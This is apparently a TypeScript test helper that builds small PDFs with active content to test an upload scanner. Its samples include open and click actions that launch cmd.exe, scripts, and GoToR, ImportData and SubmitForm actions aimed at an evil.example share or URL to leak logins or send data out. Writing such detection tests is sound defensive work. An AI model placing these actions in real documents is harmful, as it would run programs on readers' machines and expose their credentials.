import { deflateSync } from 'node:zlib';

/**
 * Small hand-written PDFs that carry active content, for the upload check
 * (services/pdf-active-content.ts). Object 1 is the catalog, 2 the page tree, 3 its one page;
 * `extra` objects are numbered from 4. With `objectStream`, every object that is not a stream
 * goes into one compressed object stream with a cross-reference stream, as qpdf or Acrobat
 * write them: no dictionary can be read from the file's bytes.
 */
export function minimalPdf(options: {
  catalog?: string;
  page?: string;
  extra?: readonly string[];
  objectStream?: boolean;
  /** How the object stream is stored: Flate (as writers do), as it is, or hex over Flate. */
  objectStreamFilter?: ObjectStreamFilter;
}): Buffer {
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${options.page ?? ''} >>`,
    ...(options.extra ?? []),
  ];
  return options.objectStream
    ? withObjectStream(bodies, options.objectStreamFilter ?? 'flate')
    : withXrefTable(bodies);
}

type ObjectStreamFilter = 'flate' | 'none' | 'hexFlate';

const HEADER = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';

function withXrefTable(bodies: readonly string[]): Buffer {
  let text = HEADER;
  const offsets: number[] = [];
  for (const [index, body] of bodies.entries()) {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
  }
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

function withObjectStream(bodies: readonly string[], filter: ObjectStreamFilter): Buffer {
  const isStream = (body: string) => body.includes('stream\n');
  const packed = bodies.flatMap((body, index) => (isStream(body) ? [] : [index + 1]));
  const streamNumber = bodies.length + 1;
  const xrefNumber = bodies.length + 2;
  // The object stream: pairs of number and offset, then the objects.
  let objects = '';
  const pairs: string[] = [];
  for (const number of packed) {
    pairs.push(`${number} ${objects.length}`);
    objects += `${bodies[number - 1]}\n`;
  }
  const head = `${pairs.join(' ')}\n`;
  const plain = Buffer.from(head + objects, 'latin1');
  const data =
    filter === 'none'
      ? plain
      : filter === 'hexFlate'
        ? Buffer.from(`${deflateSync(plain).toString('hex')}>`, 'latin1')
        : deflateSync(plain);
  const filterEntry =
    filter === 'none'
      ? ''
      : filter === 'hexFlate'
        ? '/Filter [/ASCIIHexDecode /FlateDecode] '
        : '/Filter /FlateDecode ';

  const chunks: Buffer[] = [Buffer.from(HEADER, 'latin1')];
  let length = chunks[0]?.length ?? 0;
  const offsets = new Map<number, number>();
  const write = (number: number, parts: readonly Buffer[]) => {
    offsets.set(number, length);
    for (const part of parts) {
      chunks.push(part);
      length += part.length;
    }
  };
  for (const [index, body] of bodies.entries()) {
    if (!isStream(body)) continue;
    write(index + 1, [Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`, 'latin1')]);
  }
  write(streamNumber, [
    Buffer.from(
      `${streamNumber} 0 obj\n<< /Type /ObjStm /N ${packed.length} /First ${head.length} ` +
        `${filterEntry}/Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  ]);
  offsets.set(xrefNumber, length);
  // Cross-reference stream entries: type (1 byte), offset or stream (4), generation or index (2).
  const entries = Buffer.alloc((xrefNumber + 1) * 7);
  const entry = (number: number, type: number, field2: number, field3: number) => {
    entries.writeUInt8(type, number * 7);
    entries.writeUInt32BE(field2, number * 7 + 1);
    entries.writeUInt16BE(field3, number * 7 + 5);
  };
  entry(0, 0, 0, 65535);
  for (let number = 1; number <= xrefNumber; number++) {
    const inStream = packed.indexOf(number);
    if (inStream >= 0) entry(number, 2, streamNumber, inStream);
    else entry(number, 1, offsets.get(number) ?? 0, 0);
  }
  const xrefData = deflateSync(entries);
  const xrefStart = length;
  write(xrefNumber, [
    Buffer.from(
      `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R ` +
        `/Filter /FlateDecode /Length ${xrefData.length} >>\nstream\n`,
      'latin1',
    ),
    xrefData,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefStart}\n%%EOF\n`, 'latin1'),
  ]);
  return Buffer.concat(chunks);
}

const LINK_AT = '/Type /Annot /Subtype /Link /Rect [50 700 250 720] /Border [0 0 0]';

/** The PDFs of the tests, one kind of active content each. */
export const activePdfs = {
  /** Runs a script as soon as the document is opened. */
  openActionJavaScript: (objectStream = false) =>
    minimalPdf({
      catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
      objectStream,
    }),
  /** A document-level script in the catalog's JavaScript name tree. */
  javaScriptNameTree: (objectStream = false) =>
    minimalPdf({
      catalog: '/Names << /JavaScript << /Names [(start) 4 0 R] >> >>',
      extra: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
      objectStream,
    }),
  /** Starts a program when the document is opened. */
  openActionLaunch: (objectStream = false) =>
    minimalPdf({
      catalog: '/OpenAction << /S /Launch /F (cmd.exe) /NewWindow true >>',
      objectStream,
    }),
  /** Opens a file on a network share when the document is opened (the reader's login goes along). */
  openActionRemoteFile: (objectStream = false) =>
    minimalPdf({
      catalog:
        '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
      objectStream,
    }),
  /** Reads form data in from a file on a network share when the document is opened. */
  openActionImportData: () =>
    minimalPdf({ catalog: '/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\d.fdf) >> ' }),
  /** Sends the (empty) form to an address when the document is opened. */
  openActionSubmitForm: () =>
    minimalPdf({
      catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>',
    }),
  /** Starts a program when the document is opened, in an object stream stored as given. */
  openActionLaunchPacked: (objectStreamFilter: ObjectStreamFilter) =>
    minimalPdf({
      catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>',
      objectStream: true,
      objectStreamFilter,
    }),
  /** Starts a program when the page is opened, packed in an object stream. */
  pageOpenLaunch: (objectStream = false) =>
    minimalPdf({ page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>', objectStream }),
  /** Starts a program when a link is clicked. */
  linkLaunch: (objectStream = false) =>
    minimalPdf({
      page: '/Annots [4 0 R]',
      extra: [`<< ${LINK_AT} /A << /S /Launch /F (calc.exe) >> >>`],
      objectStream,
    }),
  /** Runs a script when a link is clicked. */
  linkJavaScript: (objectStream = false) =>
    minimalPdf({
      page: '/Annots [4 0 R]',
      extra: [`<< ${LINK_AT} /A << /S /JavaScript /JS (this.exportDataObject\\(\\)) >> >>`],
      objectStream,
    }),
  /** A file inside the PDF, in the catalog's EmbeddedFiles name tree. */
  embeddedFile: (objectStream = false) =>
    minimalPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(lista.txt) 4 0 R] >> >>',
      extra: [
        '<< /Type /Filespec /F (lista.txt) /UF (lista.txt) /EF << /F 5 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 4 >>\nstream\nhej\n\nendstream',
      ],
      objectStream,
    }),
  /** A file attached to a page as an annotation (a paper clip in the reader). */
  fileAttachmentAnnotation: () =>
    minimalPdf({
      page: '/Annots [4 0 R]',
      extra: [
        '<< /Type /Annot /Subtype /FileAttachment /Rect [50 700 70 720] /FS 5 0 R >>',
        '<< /Type /Filespec /F (lista.txt) /EF << /F 6 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 4 >>\nstream\nhej\n\nendstream',
      ],
    }),
  /** A script run when the page is opened (its additional actions). */
  pageOpenJavaScript: (objectStream = false) =>
    minimalPdf({ page: '/AA << /O << /S /JavaScript /JS (app.beep\\(0\\)) >> >>', objectStream }),
  /** A form field that runs a script when it is changed. */
  fieldJavaScript: () =>
    minimalPdf({
      catalog: '/AcroForm << /Fields [4 0 R] >>',
      page: '/Annots [4 0 R]',
      extra: [
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (belopp) /Rect [50 700 250 720] ' +
          '/P 3 0 R /AA << /K << /S /JavaScript /JS (event.rc = true) >> >> >>',
      ],
    }),
  /** An XFA form (Adobe LiveCycle), which Adobe Reader runs with its own scripts. */
  xfa: () =>
    minimalPdf({
      catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>',
      extra: ['<< /Length 7 >>\nstream\n<xdp/>\n\nendstream'],
    }),
  /** A bookmark that starts a program when clicked. */
  bookmarkLaunch: (objectStream = false) =>
    minimalPdf({
      catalog: '/Outlines 4 0 R',
      extra: [
        '<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>',
        '<< /Title (Start) /Parent 4 0 R /A << /S /Launch /F (cmd.exe) >> >>',
      ],
      objectStream,
    }),
  /** A bookmark to the first page, and one that is only a heading: clean. */
  bookmarks: () =>
    minimalPdf({
      catalog: '/Outlines 4 0 R',
      extra: [
        '<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>',
        '<< /Title (Sida 1) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] >>',
        '<< /Title (Rubrik) /Parent 4 0 R /Prev 5 0 R >>',
      ],
    }),
  /** A link to a web page and nothing else: clean. */
  webLink: () =>
    minimalPdf({
      page: '/Annots [4 0 R]',
      extra: [`<< ${LINK_AT} /A << /S /URI /URI (https://www.example.se/) >> >>`],
    }),
};
